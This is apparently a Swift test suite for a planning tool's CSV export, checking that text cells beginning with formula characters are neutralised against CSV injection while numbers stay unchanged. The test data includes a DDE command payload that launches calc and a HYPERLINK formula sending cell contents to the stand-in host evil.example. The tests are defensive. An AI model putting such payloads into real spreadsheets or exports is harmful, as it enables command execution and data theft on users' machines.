import Foundation
import ICal
@testable import PlanCore
import Testing

/// CSV injection (issue 11 item 1): a text cell a spreadsheet would run as a formula gets a
/// leading `'`; numbers plancal computed stay numbers.
@Suite struct CSVTests {
    static func cells(_ csv: String) -> [[String]] {
        // Good enough for the rows these tests build: no quoted commas or line breaks.
        csv.dropFirst().components(separatedBy: "\r\n").dropLast().map { $0.components(separatedBy: ",") }
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
    ])
    func dangerousStartIsNeutralised(text: String, expected: String) async {
        #expect(CSVCell.text(text).value == expected)
        // A number cell holding text is text.
        #expect(CSVCell.number(text).value == expected)
    }

    @Test(arguments: ["", "Phòng Văn hóa - Xã hội", "https://bachdang.example/tin/2025-q1", "quý IV/2026", "1=1", "'=1"])
    func ordinaryTextIsUnchanged(text: String) {
        #expect(CSVCell.text(text).value == text)
    }

    @Test(arguments: ["-3", "0", "14,3%", "100%", "1.550", "-0,5", ""])
    func numbersStayNumbers(text: String) {
        #expect(CSVCell.number(text).value == text)
    }

    @Test func quotingAndLayout() {
        let csv = CSVCell.document([["a", "b", "c"].map(CSVCell.text),
                                    [.text("x, y"), .text("say \"hi\""), .number("-3")],
                                    [.text("=A1\r\nB"), .text("dòng 1\ndòng 2"), .number("14,3%")]])
        #expect(csv == "\u{FEFF}a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",-3\r\n\"'=A1\r\nB\",\"dòng 1\ndòng 2\",\"14,3%\"\r\n")
    }

    /// A real report: a news item recorded with a note (no link) that is a formula.
    @Test func complianceCSVNeutralisesANoteFormula() async throws {
        let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"xem\")"
        let h = try Harness.shipped()
        _ = try await h.service.recordAdHoc(.news, unit: "vhxh", details: .init(doneOn: day(20, 11, 2026), note: formula),
                                  recordedBy: "Cán bộ thử", now: noon(day(20, 11, 2026)), today: day(20, 11, 2026))
        let csv = try await h.report(today: day(2, 12, 2026)).csv(plan: h.plan)
        let line = try #require(csv.components(separatedBy: "\r\n").first { $0.contains("evil.example") })
        // Quoted (it holds commas and quotes), and the quoted value starts with ' not =.
        #expect(line.hasSuffix(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"xem\"\")\""), "\(line)")
        #expect(line.hasPrefix("G6.T3,quý IV/2026,Phòng Văn hóa - Xã hội,Đạt,met,1,20/11/2026,"), "\(line)")
        // No field of the file starts with a formula character.
        for row in Self.cells(csv) {
            for cell in row.map({ $0.hasPrefix("\"") ? String($0.dropFirst()) : $0 }) {
                #expect(!cell.hasPrefix("="), "\(row)")
            }
        }
    }

    /// Numbers in the report stay numbers: the 0/1 of quarters, the residents reached and the
    /// on-time rates ("14,3%", "0%").
    @Test func complianceCSVNumbersAreUnchanged() async throws {
        let h = try await ComplianceGoldenTests.history()
        let csv = try await h.report(today: day(2, 12, 2026)).csv(plan: h.plan)
        #expect(csv.contains("\r\nG6.T3,quý II/2025,,Không đạt,missed,0,,,\r\n"))
        #expect(csv.contains(",no-population,1550,02/12/2026,,\r\n"))
        #expect(csv.contains(",on-time-rate,\"33,3%\",,,đúng hạn 1/3; trễ 0; quá hạn 2\r\n"))
        #expect(csv.contains(",on-time-rate,0%,,,đúng hạn 0/1; trễ 0; quá hạn 1\r\n"))
        #expect(csv.contains(",due-soon,0,,,hạn 14/12/2026\r\n"))
        #expect(!csv.contains("'"), "a cell was neutralised in an ordinary report")
    }
}
